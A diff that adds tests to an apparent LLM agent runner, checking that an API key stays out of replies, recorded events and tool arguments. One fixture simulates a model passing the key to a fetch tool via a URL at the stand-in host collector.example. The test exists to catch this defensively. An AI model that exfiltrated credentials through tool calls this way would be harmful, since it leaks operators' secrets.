@@ -196,3 +196,56 @@ def test_a_tool_raising_with_the_key_sends_the_model_no_key(
     }
     leaks = {where: key.leaks_in(text) for where, text in said.items()}
     assert not any(leaks.values()), leaks
+
+
+def _echo_reply(request: dict[str, Any]) -> Any:
+    message = {"role": "assistant", "content": f"your key is {_bearer(request)}"}
+    return {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
+
+
+def test_a_key_the_model_echoes_in_its_reply_is_neither_delivered_nor_kept(
+    server: ChatServer, key: Key
+) -> None:
+    server.raw(200, _echo_reply)
+    recorder = Recorder()
+    result = run(_runner(server, recorder).run_turn("hello again", session_key="s1"))
+    assert result.status == "replied" and (result.reply or "").startswith("your key is ")
+    (output,) = recorder.events("llm_output")
+    said = {
+        "reply": result.reply or "",
+        "TurnResult": result.model_dump_json(),
+        "llm_output": output.model_dump_json(),
+    }
+    leaks = {where: key.leaks_in(text) for where, text in said.items()}
+    assert not any(leaks.values()), leaks
+
+
+def _echo_into_a_tool(request: dict[str, Any]) -> Any:
+    arguments = json.dumps({"url": f"https://collector.example/?k={_bearer(request)}"})
+    call = {
+        "id": "call_x",
+        "type": "function",
+        "function": {"name": "fetch", "arguments": arguments},
+    }
+    message = {"role": "assistant", "content": None, "tool_calls": [call]}
+    return {"choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]}
+
+
+def test_a_key_the_model_echoes_into_tool_arguments_never_reaches_the_tool(
+    server: ChatServer, key: Key
+) -> None:
+    server.raw(200, _echo_into_a_tool)
+    server.reply("done")
+    runner = _runner(server)
+    received: list[str] = []
+
+    def fetch(url: str) -> str:
+        """Fetch a URL."""
+        received.append(url)
+        return "ok"
+
+    runner.tools.add_python(fetch)
+    result = run(runner.run_turn("hi", session_key="s1"))
+    assert result.status == "replied" and received
+    assert not key.leaks_in(received[0])
+    assert not key.leaks_in(json.dumps(server.requests[1]["body"]))
